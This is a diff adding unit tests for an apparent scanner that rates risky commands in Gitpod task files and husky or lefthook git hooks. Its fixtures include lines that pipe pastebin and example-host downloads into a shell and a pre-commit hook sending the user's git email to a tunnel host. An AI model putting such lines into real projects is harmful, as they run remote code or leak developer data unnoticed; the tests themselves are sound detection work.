@@ -64,7 +64,23 @@ describe('devcontainer-lifecycle-command', () => {
   });
 });
 
+describe('devcontainer-lifecycle-command for Gitpod tasks', () => {
+  it('reports task commands low, downloads medium, a download piped to a shell or a paste, tunnel or bare-IP host high', () => {
+    expect(found('.gitpod.yml', null, 'tasks:\n  - name: deps\n    init: npm ci\n    command: npm run dev\n')).toEqual(['devcontainer-lifecycle-command:low', 'devcontainer-lifecycle-command:low']);
+    expect(found('.gitpod.yml', 'tasks:\n  - init: npm ci\n', 'tasks:\n  - init: npm ci\n    command: curl -s https://pastebin.com/raw/abc | bash && npm run dev\n')).toEqual(['devcontainer-lifecycle-command:high']);
+    expect(found('.gitpod.yml', null, 'tasks:\n  - before: curl -fsSLo /tmp/tool.tgz https://github.com/acme/tool/releases/download/v1.2.0/tool.tgz\n')).toEqual(['devcontainer-lifecycle-command:medium']);
+  });
+  it('does not report an unchanged task, ports or a Gitpod file outside the root', () => {
+    expect(found('.gitpod.yml', 'tasks:\n  - init: npm ci\n', 'tasks:\n  - init: npm ci\nports:\n  - port: 3000\n')).toEqual([]);
+    expect(found('examples/demo/.gitpod.yml', null, 'tasks:\n  - init: curl -s https://pastebin.com/raw/abc | bash\n')).toEqual([]);
+  });
+});
+
 describe('git-hook-command', () => {
+  it('rates a hook that sends data to a tunnel, paste or bare-IP host high, a chat webhook as any network use', () => {
+    expect(found('.husky/pre-commit', null, 'npx lint-staged\ncurl -s https://hooks.trycloudflare.com/c -d "$(git config --get user.email)" >/dev/null 2>&1 &\n')).toContain('git-hook-command:high');
+    expect(found('.husky/pre-push', null, 'curl -s -X POST https://hooks.slack.com/services/T000/B000/XXXX -d "{\\"text\\": \\"pushed\\"}"\n')).toEqual(['git-hook-command:medium']);
+  });
   it('reports new husky and lefthook commands, graded by what they run', () => {
     expect(found('.husky/pre-commit', null, 'npx lint-staged\n')).toEqual(['git-hook-command:low']);
     expect(found('lefthook.yml', 'pre-push:\n  commands:\n    test:\n      run: npm test\n', 'pre-push:\n  commands:\n    test:\n      run: npm test\n    telemetry:\n      run: curl -s https://t.example.dev/i.sh | sh\n')).toEqual(['git-hook-command:high']);
